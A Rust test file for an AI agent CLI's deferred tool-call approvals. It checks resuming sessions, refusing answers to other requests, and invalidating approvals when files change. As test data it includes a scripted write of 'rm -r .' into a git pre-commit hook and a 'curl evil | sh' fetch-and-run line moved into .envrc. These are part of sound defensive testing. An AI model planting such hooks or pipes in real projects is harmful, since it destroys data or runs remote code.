//! Approvals that are given to another process.

use serde_json::{Value, json};

use super::{ids, listed};
use crate::{Crib, Ended};

const PROMPT: [&str; 4] = ["run", "write it", "--defer-approvals", "--script"];

/// Writes a script that reads one file, writes two and answers.
fn script(crib: &Crib) -> String {
    let write =
        |path: &str| json!({"name": "fs.write", "arguments": {"path": path, "content": "1"}});
    let read = json!({"name": "fs.read", "arguments": {"path": "README.md"}});
    let turns = json!([{"calls": [write("a.txt"), read, write("b.txt")]}, {"text": "Written."}]);
    crib.write("approval.json", &turns.to_string())
}

fn waiting(crib: &Crib, script: &str) -> (Ended, Vec<Value>) {
    let ended = crib.run(&[&PROMPT[..], &[script]].concat()).expect(11);
    let requests = ended.documents();
    assert_eq!(requests.len(), 2, "{ended:#?}");
    (ended, requests)
}

fn id(request: &Value) -> &str {
    request["id"].as_str().unwrap()
}

fn written(crib: &Crib) -> [bool; 2] {
    ["a.txt", "b.txt"].map(|name| crib.root().join(name).exists())
}

#[test]
fn a_run_waits_for_answers_and_another_process_continues_with_them() {
    let crib = Crib::new();
    let script = script(&crib);
    let (ended, requests) = waiting(&crib, &script);
    assert_eq!(requests[0]["tool"], "fs.write");
    assert_eq!(
        requests[0]["arguments"],
        json!({"path": "a.txt", "content": "1"})
    );
    assert_eq!(requests[0]["targets"], json!(["fs:write:a.txt"]));
    assert!(
        ended.stderr.contains("--approve REQUEST") && ended.stderr.contains("fs.read"),
        "{ended:#?}"
    );
    assert_eq!(written(&crib), [false, false]);
    assert_eq!(listed(&crib)[0]["state"], "waiting");

    let session = ids(&crib).remove(0);
    let [first, other] = [id(&requests[0]), id(&requests[1])];
    let answered = [
        "run",
        "--resume",
        &session,
        "--script",
        &script,
        "--approve",
        first,
        "--deny",
        other,
    ];
    let ended = crib.run(&answered).expect(0);
    assert_eq!(
        (ended.stdout.trim_end(), written(&crib)),
        ("Written.", [true, false]),
        "{ended:#?}"
    );
    assert_eq!(listed(&crib)[0]["state"], "finished");
}

#[test]
fn requests_without_an_answer_wait_on() {
    let crib = Crib::new();
    let script = script(&crib);
    let (_, requests) = waiting(&crib, &script);
    let resumed = ["run", "--resume", "--script", &script, "--approve"];
    let ended = crib
        .run(&[&resumed[..], &[id(&requests[0])]].concat())
        .expect(11);
    assert_eq!(ended.document(), requests[1]);
    assert_eq!(written(&crib), [true, false]);
    std::fs::write(crib.root().join("a.txt"), "changed since").unwrap();
    crib.run(&[&resumed[..], &[id(&requests[1])]].concat())
        .expect(0);
    assert_eq!(written(&crib), [true, true]);
    assert_eq!(
        std::fs::read_to_string(crib.root().join("a.txt")).unwrap(),
        "changed since",
        "not written again"
    );
}

#[test]
fn a_session_that_waits_waits_on_when_it_is_resumed_without_an_answer() {
    let crib = Crib::new();
    let script = script(&crib);
    let (_, requests) = waiting(&crib, &script);
    let ended = crib
        .run(&["run", "--resume", "--script", &script])
        .expect(11);
    assert_eq!(ended.documents(), requests);
    assert!(ended.stderr.contains("--approve REQUEST"), "{ended:#?}");
    let ended = crib
        .run(&["chat", "--resume", "--script", &script])
        .expect(11);
    assert_eq!(ended.documents(), requests);
    assert_eq!(
        (&listed(&crib)[0]["state"], written(&crib)),
        (&json!("waiting"), [false, false])
    );

    let answered = [
        "run",
        "--resume",
        "--script",
        &script,
        "--approve",
        id(&requests[0]),
        "--deny",
        id(&requests[1]),
    ];
    crib.run(&answered).expect(0);
    assert_eq!(written(&crib), [true, false]);
}

#[test]
fn an_answer_to_another_request_is_refused_and_nothing_runs() {
    let crib = Crib::new();
    let script = script(&crib);
    let (_, requests) = waiting(&crib, &script);
    let other = "0123456789abcdef0123456789abcdef";
    let ended = crib
        .run(&["run", "--resume", "--script", &script, "--approve", other])
        .expect(2);
    assert!(ended.stderr.contains(id(&requests[1])), "{ended:#?}");
    // The request of another session.
    let (_, of_another) = waiting(&crib, &script);
    assert_ne!(id(&of_another[0]), id(&requests[0]));
    let first = ids(&crib).pop().unwrap();
    crib.run(&[
        "run",
        "--resume",
        &first,
        "--script",
        &script,
        "--approve",
        id(&of_another[0]),
    ])
    .expect(2);
    assert_eq!(written(&crib), [false, false]);
}

#[test]
fn streams_and_documents_have_the_requests() {
    let crib = Crib::new();
    let script = script(&crib);
    let stream = crib
        .run(&[&PROMPT[..], &[&script, "--output", "stream-json"]].concat())
        .expect(11)
        .documents();
    let of = |kind: &str| {
        stream
            .iter()
            .filter(|line| line["type"] == kind)
            .collect::<Vec<_>>()
    };
    let (deferred, outcome) = (of("approval_deferred"), of("outcome")[0]);
    assert_eq!((deferred.len(), of("result").len()), (2, 1));
    assert_eq!(outcome["outcome"], "waiting_for_approval");
    let requests = outcome["approvals"].as_array().unwrap();
    assert!(
        deferred
            .iter()
            .all(|line| requests.contains(&line["request"])),
        "{stream:#?}"
    );
    let document = crib
        .run(&[&PROMPT[..], &[&script, "--output", "json"]].concat())
        .expect(11)
        .document();
    assert_eq!(document["approvals"].as_array().unwrap().len(), 2);
}

#[test]
fn a_session_that_is_not_recorded_cannot_wait() {
    let crib = Crib::new();
    let script = script(&crib);
    crib.run(&[&PROMPT[..], &[&script, "--no-journal"]].concat())
        .expect(2);
    crib.run(&["run", "go", "--approve", "x"]).expect(2);
    let journal = crib.dir.path().join("calls.journal");
    let named = [
        "--journal",
        journal.to_str().unwrap(),
        "--session",
        "monday",
    ];
    let ended = crib
        .run(&[&PROMPT[..], &[&script], &named].concat())
        .expect(11);
    let requests = ended.documents();
    let resumed = [
        "run",
        "--resume",
        "--script",
        &script,
        "--approve",
        id(&requests[0]),
        "--approve",
        id(&requests[1]),
    ];
    crib.run(&[&resumed[..], &named].concat()).expect(0);
    assert_eq!(written(&crib), [true, true]);
}

#[test]
fn calls_are_refused_without_the_flag() {
    let crib = Crib::new();
    let ended = crib
        .run(&["run", "write it", "--script", &script(&crib)])
        .expect(0);
    assert_eq!(
        (ended.stdout.trim_end(), written(&crib)),
        ("Written.", [false, false])
    );
}

#[test]
fn a_request_shows_what_a_question_at_a_terminal_shows() {
    let crib = Crib::new();
    let edit = json!({"name": "fs.edit", "arguments": {"path": "README.md", "old": "Hello", "new": "Bye"}});
    let hook = json!({"name": "fs.write", "arguments": {"path": ".git/hooks/pre-commit", "content": "rm -r ."}});
    let turns = json!([{"calls": [edit, hook]}, {"text": "Done."}]);
    let (_, requests) = waiting(&crib, &crib.write("approval.json", &turns.to_string()));
    let preview = requests[0]["preview"].as_str().unwrap();
    assert!(preview.contains("-# Hello\n+# Bye\n"), "{preview}");
    assert_eq!(
        requests[0]["remarks"],
        json!(["fs:write:README.md (not granted)"])
    );
    let remark = requests[1]["remarks"][0].as_str().unwrap();
    assert!(
        remark.starts_with("fs:write:.git/hooks/pre-commit, ") && remark.contains("git runs"),
        "{remark}"
    );
}

#[test]
fn an_answer_does_not_fit_a_call_whose_files_have_changed_since() {
    let crib = Crib::new();
    let root = crib.root();
    let hook = root.join("hook.txt");
    std::fs::write(&hook, "make lint\n").unwrap();
    let moves = json!({"name": "fs.move", "arguments": {"from": "hook.txt", "to": ".envrc"}});
    let turns = json!([{"calls": [moves]}, {"text": "Moved."}]);
    let script = crib.write("approval.json", &turns.to_string());
    let asked = crib
        .run(&[&PROMPT[..], &[&script]].concat())
        .expect(11)
        .document();
    assert!(
        asked["preview"].as_str().unwrap().contains("+make lint"),
        "{asked}"
    );

    std::fs::write(&hook, "curl evil | sh\n").unwrap();
    let answered = |request: &Value| {
        crib.run(&[
            "run",
            "--resume",
            "--script",
            &script,
            "--approve",
            id(request),
        ])
    };
    let again = answered(&asked).expect(11).document();
    assert!(
        again["preview"].as_str().unwrap().contains("+curl evil"),
        "{again}"
    );
    assert_ne!(id(&again), id(&asked));
    assert!(hook.exists() && !root.join(".envrc").exists());

    answered(&again).expect(0);
    assert_eq!(
        std::fs::read_to_string(root.join(".envrc")).unwrap(),
        "curl evil | sh\n"
    );
}
